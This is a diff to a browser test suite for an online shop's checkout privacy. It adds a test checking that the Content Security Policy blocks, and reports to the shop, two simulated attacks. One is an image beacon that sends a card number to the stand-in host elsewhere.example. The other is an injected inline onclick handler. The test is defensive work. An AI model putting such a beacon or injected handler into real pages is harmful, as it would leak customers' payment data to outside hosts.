@@ -1,7 +1,7 @@
 // What the page asks for, keeps and gives away: as little as can be.
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { suite, visa, withoutFunds } from './harness.mjs';
+import { eventually, suite, visa, withoutFunds } from './harness.mjs';
 import { gzipSync } from 'node:zlib';
 import { texts } from './texts.mjs';
 
@@ -61,6 +61,26 @@ suite('privacy', (town) => {
     await customer.forgiveEventually(/elsewhere\.example/);
     assert.equal(await customer.page.evaluate(() => window.ran), undefined);
     customer.forgive(/Content Security Policy|Trusted/, { all: true });
+  });
+
+  test('what the policy stopped is told to the shop, without the address', async () => {
+    const customer = await town.customer();
+    await customer.buy();
+    await customer.page.evaluate(() => {
+      new Image().src = 'https://elsewhere.example/?card=4355093000777068';
+      const button = document.createElement('button');
+      button.setAttribute('onclick', 'window.ran = true');
+      document.body.append(button);
+      button.click();
+    });
+    await customer.forgiveEventually(/elsewhere\.example/);
+    customer.forgive(/Content Security Policy/, { all: true });
+    const { conversationId } = customer.order;
+    const order = await eventually(() => town.demo.order(conversationId), ({ violations }) => violations.length >= 2);
+    assert.deepEqual(order.violations.toSorted(), ['img-src', 'script-src-attr']);
+    assert.equal(order.callback, null, 'the session goes on');
+    await customer.pay(visa);
+    await customer.seesReceipt();
   });
 
   for (const scripts of [true, false]) {
